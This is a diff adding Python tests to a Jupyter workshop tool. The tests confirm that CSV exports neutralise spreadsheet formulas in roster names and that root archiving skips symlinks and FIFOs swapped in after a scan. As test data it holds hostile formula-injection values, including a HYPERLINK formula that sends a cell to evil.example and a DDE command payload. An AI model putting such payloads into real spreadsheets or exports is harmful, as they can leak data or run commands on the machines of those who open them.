@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import tarfile
 from datetime import datetime, timedelta
 
@@ -193,3 +195,73 @@ def test_spawn_rules_without_a_database_yet_and_with_a_broken_one(tmp_path):
     bad = tmp_path / "bad.sqlite"
     bad.write_bytes(b"this is not a sqlite file" * 100)
     assert "could not be read" in spawn_rules({"bio"}, f"sqlite:///{bad}").refusal
+
+
+def test_sheet_csv_neutralises_formulas_from_the_roster():
+    """Finding 9: roster display names must not run as spreadsheet formulas."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&C2,"click")', "+1+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(1)"]  # (tab, CR: the roster strips them; see safe_cell test)
+    roster = "username,display_name\n" + "".join(
+        f'ann{i},"{name.replace(chr(34), chr(34) * 2)}"\n' for i, name in enumerate(hostile))
+    seats = parse_roster(roster, "r.csv")
+    creds = [Credential(s.username, f"pw-{i}", s.display_name) for i, s in enumerate(seats)]
+    text = render_csv(ws(), creds, "http://hub/hub/login")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    cells = [r["display_name"] for r in rows]
+    assert [c for c in cells if not c.startswith("'")] == []
+    assert [c[1:] for c in cells] == [s.display_name for s in seats]
+    # every other cell is safe as well, and the passwords read back unchanged
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
+    assert read_csv(text) == {s.username: f"pw-{i}" for i, s in enumerate(seats)}
+
+
+def test_safe_cell_is_the_owasp_recipe():
+    from jupyter_ext.csvsafe import safe_cell, unguard_cell
+
+    for text in ("=1+1", "+A1", "-A1", "@A1", "\tx", "\rx", "-2+3"):
+        assert safe_cell(text) == "'" + text and unguard_cell(safe_cell(text)) == text
+    for value in ("plain", "a=b", "-12.50", "+3", "1e-3", 5, -2.5, None, ""):
+        assert safe_cell(value) == value
+
+
+def test_close_archive_skips_files_a_seat_swaps_after_the_scan(tmp_path):
+    """Finding 3: archiving as root never follows a link nor waits on a FIFO that
+    a seat swapped in between the scan and the read; both are reported."""
+    import os
+    import threading
+
+    from jupyter_ext.archive.engine import ArchiveEngine
+    from jupyter_ext.archive.repository import Principal
+    from jupyter_ext.workshop.ops import archive_seat
+
+    secret_dir = tmp_path / "root-only"
+    secret_dir.mkdir(mode=0o700)
+    secret = secret_dir / "shadow"
+    secret.write_bytes(os.urandom(2048))
+    secret.chmod(0o600)
+    home = tmp_path / "homes" / "bio-01"
+    home.mkdir(parents=True)
+    (home / "work.ipynb").write_text("{}")
+    (home / "link-me").write_text("was a file")
+    (home / "pipe-me").write_text("was a file")
+
+    def swap(items):
+        (home / "link-me").unlink()
+        os.symlink(secret, home / "link-me")
+        (home / "pipe-me").unlink()
+        os.mkfifo(home / "pipe-me")
+
+    skipped: list[str] = []
+    out: dict = {}
+    dest = tmp_path / "archive"
+    t = threading.Thread(target=lambda: out.setdefault("r", archive_seat(
+        "bio-01", home, dest, "bio", archive_home, skipped=skipped, after_scan=swap)), daemon=True)
+    t.start()
+    t.join(60)
+    assert not t.is_alive(), "the close hung on a FIFO"
+    assert out["r"].startswith(str(dest / "repository"))
+    assert sorted(s.split(":")[0] for s in skipped) == ["bio-01/link-me", "bio-01/pipe-me"]
+    eng = ArchiveEngine(repository=str(dest / "repository"), cache_dir="")
+    [a] = eng.list(owner="user:bio-01", principal=Principal("lens-admin", admin=True))
+    shown = eng.show(a["id"], owner="user:bio-01", principal=Principal("lens-admin", admin=True))
+    assert {f["path"] for f in shown["files"]} == {"bio-01", "bio-01/work.ipynb"}
